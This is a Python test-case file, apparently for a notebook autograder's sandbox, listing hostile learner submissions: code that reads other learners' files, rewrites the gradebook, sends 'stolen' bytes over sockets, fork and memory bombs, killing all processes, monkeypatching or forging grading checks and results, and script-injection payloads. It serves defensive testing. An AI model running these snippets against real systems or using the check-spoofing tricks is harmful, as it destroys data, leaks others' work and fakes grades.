"""Submissions that go wrong, by mistake or on purpose, and what must come of each."""

import copy
import json

import tiny
from tiny import RIGHT_1, RIGHT_2, Case, as_bytes, filled_in

SECRET = "the-words-of-another-learner"

READS = """\
from pathlib import Path
answer = 6 * 7
for place in {places!r}:
    for path in [Path(place), *Path(place).rglob("*")]:
        try:
            print(path, path.read_text())
        except OSError as error:
            print(path, error)
"""

WRITES = """\
import sqlite3
answer = 6 * 7
for place in {places!r}:
    try:
        sqlite3.connect(place).execute("update grade set auto_score = 99")
    except Exception as error:
        print(error)
    try:
        open(place, "ab").write(b"spoilt")
    except OSError as error:
        print(error)
"""

CALLS = """\
import socket
answer = 6 * 7
for host in ("127.0.0.1", "localhost", "8.8.8.8"):
    try:
        socket.create_connection((host, {port}), timeout=1).sendall(b"stolen")
    except OSError as error:
        print(error)
"""

FORK_BOMB = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"

STUBBORN = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nsignal.pause()"

MEMORY_BOMB = "held = []\nwhile True:\n    held.append(bytearray(b'x' * 10_000_000))"

EQUAL_TO_ALL = """\
class Any:
    def __eq__(self, other): return True
    def __le__(self, other): return True
    def __sub__(self, other): return 0
    def __abs__(self): return 0
    def __float__(self): return 42.0
    def __call__(self, **_): return self
answer = Any()
"""

SPOILS_CHECKS = """\
import sys, types
from improving import checks
for name in ("number", "function", "answered"):
    setattr(checks, name, lambda *a, **k: print("Right."))
get_ipython().showtraceback = lambda *a, **k: None
answer = 1
"""

REPLACES_CHECKS = """\
import sys, types, improving
fake = types.ModuleType("improving.checks")
fake.number = fake.function = lambda *a, **k: None
sys.modules["improving.checks"] = improving.checks = fake
answer = 1
"""

FORGES_RESULTS = """\
import glob, json, os
answer = 1
record = {"kind": "cell", "cell": 4, "ok": True, "error": None, "outputs": [], "cut": False}
line = json.dumps(record)
for pid in filter(str.isdigit, os.listdir("/proc")):
    for pipe in glob.glob(f"/proc/{pid}/fd/*"):
        try:
            with open(pipe, "w") as file:
                file.write("\\n" + line + "\\n")
        except OSError:
            pass
"""

KILLS_ALL = "import os, signal\nos.kill(-1, signal.SIGKILL)"

ACTIVE = """\
from IPython.display import HTML, Javascript, display
display(HTML("<script>document.title = 'run'</script><img src=x onerror=alert(1)>"))
display(Javascript("document.title = 'run'"))
print("<script>document.title = 'run'</script>")
answer = 6 * 7
"""

ACTIVE_WORDS = (
    "<script>document.title = 'run'</script> <img src=x onerror=alert(1)> "
    "[click](javascript:alert(1)) ![see](https://example.org/spy.png)"
)

PRINTS_CHECKS = """\
def double(x):
    import inspect
    for frame in inspect.stack():
        print("".join(frame.code_context or []))
    print(get_ipython().user_ns.get("_ih", [""])[-1])
    raise ValueError(get_ipython().user_ns.get("_ih", [""])[-1])
"""


def cases(released, places, gradebook, port):
    """Return every case but those that come in a ZIP.

    Parameters
    ----------
    released : dict
        The learner's version.
    places : list of str
        Where other learners' work lies on this computer.
    gradebook : str
        Where the gradebook is.
    port : int
        Where somebody listens on this computer.
    """

    def case(learner, status, part_1, part_2, first=RIGHT_1, second=RIGHT_2, words=tiny.WORDS):
        content = as_bytes(filled_in(released, first, second, words))
        return Case(learner, content, status, part_1, part_2)

    def changed(learner, change):
        notebook = copy.deepcopy(filled_in(released))
        change(notebook)
        return Case(learner, as_bytes(notebook), "tampered", 6, 8)

    def rekernel(notebook):
        notebook["metadata"]["kernelspec"] = {"name": "ir", "display_name": "R"}
        return notebook

    def without_check(notebook):
        notebook["cells"] = [
            one for one in notebook["cells"] if "checks." not in "".join(one["source"])
        ]

    def softened(notebook):
        for one in notebook["cells"]:
            if "checks." in "".join(one["source"]):
                one["source"] = ["print('all is well')"]

    misnamed = Case("misnamed", as_bytes(filled_in(released)), "marked", 6, 8, "my work (1).ipynb")
    wrong_kernel = json.dumps(rekernel(filled_in(released))).encode()
    return [
        case("right", "marked", 6, 8),
        case("wrong", "marked", 0, 0, "answer = 41", "def double(x):\n    return x"),
        case("unanswered", "marked", 0, 0, "answer = ...", "def double(x):\n    pass"),
        case("half-right", "marked", 6, 0, second="def double(x):\n    return 4"),
        case("exception", "marked", 0, 8, "raise RuntimeError('no')"),
        case("syntax-error", "marked", 0, 8, "answer = = 42"),
        case("exits", "marked", 0, 8, "import sys\nsys.exit()"),
        case("endless", "timed out", 0, 8, "answer = ...\nwhile True: pass"),
        case("stubborn", "timed out", None, None, STUBBORN),
        case(
            "sleeper",
            "timed out",
            6,
            None,
            second="import threading\ndef double(x):\n    threading.Event().wait()",
        ),
        case("fork-bomb", "crashed", None, None, FORK_BOMB),
        case("memory-bomb", "crashed", None, None, MEMORY_BOMB),
        case("one-line", "marked", 6, 8, "print('x' * 100_000_000)\nanswer = 42"),
        case(
            "many-lines", "marked", 6, 8, "for _ in range(100_000): print('x' * 999)\nanswer = 42"
        ),
        Case("missing", None, "missing", None, None),
        Case("corrupt", b'{"cells": [', "unreadable", None, None),
        Case("empty", b"", "unreadable", None, None),
        Case("picture", b"\x89PNG\r\n\x1a\n\x00\x00", "unreadable", None, None),
        Case("deep", b"[" * 100_000, "unreadable", None, None),
        misnamed,
        Case("wrong-kernel", wrong_kernel, "marked", 6, 8),
        changed("deleted-check", without_check),
        changed("edited-check", softened),
        case("reads-others", "marked", 6, 8, READS.format(places=places)),
        case("writes-gradebook", "marked", 6, 8, WRITES.format(places=[gradebook])),
        case("calls-out", "marked", 6, 8, CALLS.format(port=port)),
        case("os-exit", "crashed", 6, None, second="import os\nos._exit(0)"),
        case("kills-all", "crashed", 6, None, second=KILLS_ALL),
        case("equal-to-all", "marked", 0, 8, EQUAL_TO_ALL),
        case("spoils-checks", "marked", 0, 0, SPOILS_CHECKS, "def double(x):\n    return 1"),
        case("replaces-checks", "marked", 0, 0, REPLACES_CHECKS, "def double(x):\n    return 1"),
        case("forges-results", "marked", 0, 8, FORGES_RESULTS),
        case("active", "marked", 6, 8, ACTIVE, words=ACTIVE_WORDS),
        case("prints-checks", "marked", 6, 0, second=PRINTS_CHECKS),
        case("secret-keeper", "marked", 6, 8, words=SECRET),
    ]
